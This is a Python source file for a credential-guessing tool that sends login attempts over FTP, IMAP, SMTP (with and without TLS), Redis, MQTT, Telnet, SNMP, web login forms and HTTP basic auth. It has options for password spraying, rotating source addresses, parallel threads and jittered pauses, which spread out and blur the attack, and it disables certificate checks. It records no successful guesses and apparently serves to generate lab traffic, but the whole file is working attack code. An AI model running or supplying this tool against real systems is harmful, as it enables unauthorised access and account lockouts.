"""A plain password guesser for ftp, imap, smtp (with TLS too), redis, mqtt, telnet, snmp, forms and basic authentication.

Sources (one or more addresses of the attacking host) take turns, and so do victims, which makes a spread or a distributed attack
of it.
"""

import argparse
import base64
import contextlib
import ftplib
import http.client
import imaplib
import itertools
import random
import smtplib
import socket
import ssl
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

KEPT = threading.local()
"""What a thread keeps between two tries: a connection, a socket."""

TRUSTING = ssl._create_unverified_context()  # noqa: S323 - the lab's certificate is signed by nobody

Try = Callable[[str, int, str, str, "str | None"], None]


def _source(source: str | None) -> tuple[str, int] | None:
    return (source, 0) if source else None


def ftp(host: str, port: int, user: str, password: str, source: str | None, *, tls: bool = False) -> None:
    """USER and PASS, with `tls` behind AUTH TLS."""
    with ftplib.FTP_TLS(timeout=8, context=TRUSTING) if tls else ftplib.FTP(timeout=8) as made:  # noqa: S321 - its purpose
        made.connect(host, port, source_address=_source(source))
        made.login(user, password)


def ftps(*asked: Any) -> None:
    """AUTH TLS, USER and PASS."""
    ftp(*asked, tls=True)


def imap(host: str, port: int, user: str, password: str, source: str | None) -> None:
    """LOGIN."""
    made = imaplib.IMAP4(host, port, timeout=8)
    try:
        made.login(user, password)
    finally:
        with contextlib.suppress(OSError, imaplib.IMAP4.error):
            made.logout()


def imaps(host: str, port: int, user: str, password: str, source: str | None) -> None:
    """LOGIN inside TLS."""
    made = imaplib.IMAP4_SSL(host, port, ssl_context=TRUSTING, timeout=8)
    try:
        made.login(user, password)
    finally:
        made.shutdown()


def smtps(host: str, port: int, user: str, password: str, source: str | None) -> None:
    """EHLO and AUTH inside TLS."""
    with smtplib.SMTP_SSL(host, port, timeout=8, context=TRUSTING) as made:
        made.login(user, password)


def mqtt(host: str, port: int, user: str, password: str, source: str | None) -> None:
    """CONNECT (MQTT 3.1.1, section 3.1) with a random client id; waits for CONNACK."""
    client, name, word = (len(t).to_bytes(2) + t.encode() for t in (f"c{random.getrandbits(32):x}", user, password))
    body = b"\0\4MQTT\4\xc2\0\x3c" + client + name + word
    with socket.create_connection((host, port), timeout=8, source_address=_source(source)) as made:
        made.sendall(b"\x10" + bytes([len(body)]) + body)
        made.recv(100)


def smtp(host: str, port: int, user: str, password: str, source: str | None) -> None:
    """EHLO and AUTH."""
    with smtplib.SMTP(timeout=8, source_address=_source(source)) as made:
        made.connect(host, port)
        made.login(user, password)


def _lines(host: str, port: int, source: str | None, said: list[str], first: bool) -> None:
    with socket.create_connection((host, port), timeout=8, source_address=_source(source)) as made:
        if first:
            made.recv(2000)
        for line in said:
            made.sendall(line.encode() + b"\r\n")
            made.recv(2000)


def redis(host: str, port: int, user: str, password: str, source: str | None) -> None:
    """AUTH as an inline command."""
    _lines(host, port, source, [f"AUTH {password}", "PING"], first=False)


def telnet(host: str, port: int, user: str, password: str, source: str | None) -> None:
    """The account and the password as lines after whatever the server asked; options are refused by silence."""
    _lines(host, port, source, [user, password, "exit"], first=True)


def snmp(host: str, port: int, user: str, password: str, source: str | None) -> None:
    """Asks for sysDescr.0 with the password as community (SNMPv1, RFC 1157), always from one socket; reads no answer."""
    made: socket.socket = KEPT.__dict__.setdefault("snmp", socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
    asked = bytes.fromhex("a01902010102010002010030 0e300c06082b060102010101000500")
    body = b"\x02\x01\x00\x04" + bytes([len(password)]) + password.encode() + asked
    made.sendto(b"\x30" + bytes([len(body)]) + body, (host, port))


def _asked(host: str, port: int, source: str | None, method: str, path: str, body: str, headers: dict[str, str]) -> None:
    made = KEPT.__dict__.get("http") or http.client.HTTPConnection(host, port, timeout=8, source_address=_source(source))
    made.request(method, path, body or None, {"User-Agent": "Mozilla/5.0", **headers})
    made.getresponse().read()
    if KEPT.__dict__.get("keeps"):
        KEPT.__dict__["http"] = made
    else:
        made.close()


def form(host: str, port: int, user: str, password: str, source: str | None) -> None:
    """POST to the login form."""
    kind = {"Content-Type": "application/x-www-form-urlencoded"}
    _asked(host, port, source, "POST", "/login", f"user={user}&password={password}", kind)


def basic(host: str, port: int, user: str, password: str, source: str | None) -> None:
    """GET with an Authorization header."""
    coded = base64.b64encode(f"{user}:{password}".encode()).decode()
    _asked(host, port, source, "GET", "/admin/", "", {"Authorization": f"Basic {coded}"})


KINDS: dict[str, Try] = {made.__name__: made for made in (ftp, ftps, imap, imaps, smtp, smtps, mqtt)}
KINDS |= {made.__name__: made for made in (redis, telnet, snmp, form, basic)}
REFUSED = (OSError, EOFError, ftplib.Error, http.client.HTTPException, imaplib.IMAP4.error, smtplib.SMTPException)


def main() -> None:
    """Try pairs until `--seconds` are over; the same list again from its start where it was short."""
    parser = argparse.ArgumentParser()
    parser.add_argument("kind", choices=sorted(KINDS))
    parser.add_argument("hosts", help="addresses, with commas between them")
    parser.add_argument("port", type=int)
    parser.add_argument("--users", type=Path, required=True)
    parser.add_argument("--passwords", type=Path, required=True)
    parser.add_argument("--spray", action="store_true", help="one password for every user, then the next password")
    parser.add_argument("--sources", default="")
    parser.add_argument("--kept", action="store_true", help="form and basic: all tries of a thread on one connection")
    parser.add_argument("--parallel", type=int, default=1)
    parser.add_argument("--pause", type=float, default=0.0, help="seconds after each try of a thread")
    parser.add_argument("--jitter", type=float, default=0.0, help="share by which the pause varies")
    parser.add_argument("--seconds", type=float, default=14.0)
    options = parser.parse_args()
    users, passwords = options.users.read_text().split(), options.passwords.read_text().split()
    pairs = [(u, p) for p in passwords for u in users] if options.spray else [(u, p) for u in users for p in passwords]
    turns = itertools.cycle((h, u, p) for u, p in pairs for h in options.hosts.split(","))
    sources = itertools.cycle([s or None for s in options.sources.split(",")])
    until, lock = time.monotonic() + options.seconds, threading.Lock()

    def work() -> None:
        KEPT.__dict__["keeps"] = options.kept
        while time.monotonic() < until:
            with lock:
                (host, user, password), source = next(turns), next(sources)
            with contextlib.suppress(*REFUSED):
                KINDS[options.kind](host, options.port, user, password, source)
            time.sleep(options.pause * random.uniform(1 - options.jitter, 1 + options.jitter))

    for _ in range(options.parallel):  # the process ends with the last of them
        threading.Thread(target=work).start()


if __name__ == "__main__":
    main()
